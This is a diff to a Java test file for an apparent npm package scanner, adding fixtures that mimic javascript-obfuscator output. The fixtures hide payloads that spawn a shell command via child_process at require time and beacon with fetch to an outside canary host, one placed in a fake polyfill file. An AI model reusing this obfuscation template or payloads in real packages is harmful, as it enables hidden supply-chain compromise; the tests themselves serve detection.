@@ -9,6 +9,10 @@ import dev.gatehouse.analyzer.npm.NpmFixture;
 import dev.gatehouse.policy.Ecosystem;
 import java.io.IOException;
 import java.nio.file.Path;
+import java.util.Locale;
+import java.util.function.UnaryOperator;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Named;
 import org.junit.jupiter.api.io.TempDir;
@@ -158,6 +162,44 @@ class NpmRequireTimeReplicasTest {
   @MethodSource("hiddenNames")
   void hiddenNameAtRequireIsStopped(NpmFixture fixture) throws IOException {
     judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.OBFUSCATION, Capability.PROCESS_SPAWN);
+  }
+
+  /**
+   * The layout javascript-obfuscator emits: a string table function, a rotation loop that turns it until a
+   * checksum matches, and a lookup function; {@code n} renames every identifier, as its name generators do.
+   */
+  private static String obfuscated(UnaryOperator<String> n, String payload) {
+    String template = "const A=B;(function(C,D){const E=B,F=C();while(!![]){try{const G=parseInt(E(0x1e0))/0x1"
+        + "+-parseInt(E(0x1e1))/0x2;if(G===D)break;else F['push'](F['shift']());}catch(H){F['push'](F['shift']());}}"
+        + "}(I,0x9c2d3));function B(J,K){const L=I();return B=function(M,N){M=M-0x1e0;let O=L[M];return O;},B(J,K);}"
+        + "function I(){const P=['child_process','exec','id','https://c0ffee.oast.fun/x','1234','5678'];"
+        + "I=function(){return P;};return I();}";
+    Matcher names = Pattern.compile("\\b[A-P]\\b").matcher(template + payload);
+    StringBuilder out = new StringBuilder();
+    while (names.find()) {
+      names.appendReplacement(out, Matcher.quoteReplacement(n.apply(names.group())));
+    }
+    return names.appendTail(out).toString();
+  }
+
+  static Stream<Named<NpmFixture>> obfuscatedPayloads() {
+    UnaryOperator<String> hex = c -> "_0x" + Integer.toHexString(0x1a2b3c + c.charAt(0));
+    UnaryOperator<String> mangled = c -> c.toLowerCase(Locale.ROOT) + "$";
+    return Stream.of(
+        variant("hexadecimal names, hidden require and call",
+            obfuscated(hex, "require(A(0x1e0))[A(0x1e1)](A(0x1e2));")),
+        variant("mangled names, hidden require and call",
+            obfuscated(mangled, "require(A(0x1e0))[A(0x1e1)](A(0x1e2));")),
+        variant("hexadecimal names, beacon with fetch", obfuscated(hex, "fetch(A(0x1e3),{method:'POST'});")),
+        Named.of("mangled names in a required submodule", NpmFixture.main("index.js")
+            .file("index.js", "require('./lib/polyfill.js');\nmodule.exports = {};\n")
+            .file("lib/polyfill.js", obfuscated(mangled, "require(A(0x1e0))[A(0x1e1)](A(0x1e2));"))));
+  }
+
+  @ParameterizedTest(name = "obfuscated payload at require: {0}")
+  @MethodSource("obfuscatedPayloads")
+  void obfuscatedPayloadAtRequireIsStopped(NpmFixture fixture) throws IOException {
+    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.OBFUSCATION);
   }
 
   static Stream<Named<NpmFixture>> benignLoads() {
